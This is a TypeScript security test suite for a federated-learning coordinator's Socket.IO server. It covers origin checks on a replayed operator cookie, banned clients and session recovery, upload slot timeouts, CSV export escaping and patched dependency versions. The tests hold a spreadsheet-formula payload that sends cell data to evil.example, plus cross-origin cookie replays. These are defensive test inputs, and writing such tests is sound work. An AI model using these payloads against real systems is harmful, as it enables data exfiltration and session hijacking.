import { readFile } from 'node:fs/promises';
import { ManualClock, ScriptedClient, smallFederation } from '@perfit/testkit';
import { hostCoordinator, operator } from '@perfit/testkit/coordinator';
import { io } from 'socket.io-client';
import { beforeAll, expect, it, vi } from 'vitest';
import { AdminCaller } from '../admin-caller.ts';

vi.setConfig({ testTimeout: 90_000 });

let admin: AdminCaller;
const clock = new ManualClock();
const coordinator = hostCoordinator({ clock, limits: { uploads: 1 } });

beforeAll(async () => {
  admin = await AdminCaller.login(coordinator.url, operator);
}, 120_000);

function connect(namespace: string, options: { headers?: Record<string, string>; auth?: object }): Promise<string> {
  const { headers = {}, auth = {} } = options;
  const socket = io(`${coordinator.url}${namespace}`, {
    transports: ['websocket'],
    forceNew: true,
    reconnection: false,
    extraHeaders: headers,
    auth,
  });
  return new Promise((resolve) => {
    socket.once('connect', () => resolve(socket.recovered ? 'recovered' : 'connected'));
    socket.once('connect_error', (error) => resolve(error.message));
  }).finally(() => socket.disconnect()) as Promise<string>;
}

it('a stolen cookie opens the operator’s socket for no other page, and for nothing that names no page', async () => {
  const { cookie } = admin.headers as { cookie: string };
  expect(await connect('/operator', { headers: { cookie, origin: coordinator.url } })).toBe('connected');
  expect(await connect('/operator', { headers: { cookie } })).toMatch(/sign in/);
  expect(await connect('/operator', { headers: { cookie, origin: 'https://evil.example' } })).not.toBe('connected');
  expect(await connect('/', { headers: { origin: 'https://evil.example' } })).not.toBe('connected');
  const { key } = (await admin.post('/keys', { label: 'watcher', role: 'viewer' })).body;
  expect(await connect('/operator', { headers: { authorization: `Bearer ${key}` } })).toBe('connected');
});

it('a banned client does not come back by the recovery of its connection', async () => {
  const { id, invite } = await coordinator.createFederation(smallFederation, { start: true });
  const client = await ScriptedClient.join(coordinator.url, { federation: id, invite });
  const sid = client.socket.id as string;
  const gone = client.gone();
  await admin.post(`/federations/${id}/clients/${client.id}/actions`, { action: 'ban' });
  await gone;
  // As Socket.IO's client asks for it: by the private id of the session and the last packet's offset.
  expect(await connect('/', { auth: { pid: sid, offset: '1' } })).toBe('connected');
  const stranger = await ScriptedClient.connect(coordinator.url, client.identity);
  const asked = stranger.ask('download', { what: 'slice', version: 0, offset: 0 });
  await expect(asked).rejects.toMatchObject({ code: 'not-joined' });
  await expect(stranger.shakeHands(id, invite)).rejects.toMatchObject({ code: 'client-banned' });
  stranger.close();
});

it('[UP2] an upload that drips gives its slot to others, and goes on where it was', async () => {
  const { id, invite } = await coordinator.createFederation(smallFederation, { start: true });
  const [slow, other] = [
    await ScriptedClient.join(coordinator.url, { federation: id, invite }),
    await ScriptedClient.join(coordinator.url, { federation: id, invite }),
  ];
  await slow.hear('offer');
  const bytes = await slow.maskBytes(slow.draw(1).mask);
  const announce = { kind: 'mask' as const, round: 1, bytes: bytes.length, sha256: 'a'.repeat(64) };
  const begun = await slow.ask('announce', announce);
  if (begun.state !== 'send') throw new Error('the upload was not begun');
  await slow.ask('chunk', { upload: begun.upload, offset: 0, data: bytes.subarray(0, 1) });
  const { mask } = other.draw(2);
  await expect(other.sendMask(mask)).rejects.toMatchObject({ code: 'upload-busy' });
  clock.advance(61_000);
  const late = slow.ask('chunk', { upload: begun.upload, offset: 1, data: bytes.subarray(1, 2) });
  await expect(late).rejects.toMatchObject({ code: 'upload-unknown' });
  await other.sendMask(mask);
  expect(await slow.ask('announce', announce)).toMatchObject({ state: 'send', offset: 1 });
  for (const client of [slow, other]) client.close();
});

it('a name that is a formula stays text in a spreadsheet', async () => {
  const { id, invite } = await coordinator.createFederation(
    { ...smallFederation, schedule: { ...smallFederation.schedule, recruit: 1, goal: 1, minimum: 1 } },
    { start: true },
  );
  const name = '=HYPERLINK("http://evil.example?"&A1,"x")';
  const client = await ScriptedClient.join(coordinator.url, { federation: id, invite, ready: { name } });
  await client.hear('offer');
  const { mask, values } = client.draw(1);
  await client.sendMask(mask);
  await client.sendDelta(mask, values);
  await client.hear('closed');
  const csv = (await admin.get(`/federations/${id}/results.csv`)).body as string;
  expect(csv.split('\r\n')[1]).toContain(`,"'=HYPERLINK(""http://evil.example?""&A1,""x"")",50,`);
  for (const hostile of ['a\u202Eb', 'a\u0000b', 'x'.repeat(61), ' ', 'a\nb']) {
    const joined = ScriptedClient.join(coordinator.url, { federation: id, ready: { name: hostile } }, client.identity);
    await expect(joined).rejects.toMatchObject({ code: 'bad-message' });
  }
  client.close();
});

it('the lockfile has no socket.io-parser before 4.2.6 and no engine.io before 6.6.9', async () => {
  const lockfile = await readFile(new URL('../../../../pnpm-lock.yaml', import.meta.url), 'utf8');
  for (const [name, least] of [
    ['socket.io-parser', [4, 2, 6]],
    ['engine.io', [6, 6, 9]],
  ] as const) {
    const versions = [
      ...lockfile.matchAll(new RegExp(`^ {2}${name.replaceAll('.', '\\.')}@(\\d+)\\.(\\d+)\\.(\\d+):`, 'gm')),
    ];
    expect(versions.length).toBeGreaterThan(0);
    for (const [, ...parts] of versions) {
      const [major = 0, minor = 0, patch = 0] = parts.map(Number);
      expect(major * 1e6 + minor * 1e3 + patch).toBeGreaterThanOrEqual(least[0] * 1e6 + least[1] * 1e3 + least[2]);
    }
  }
});
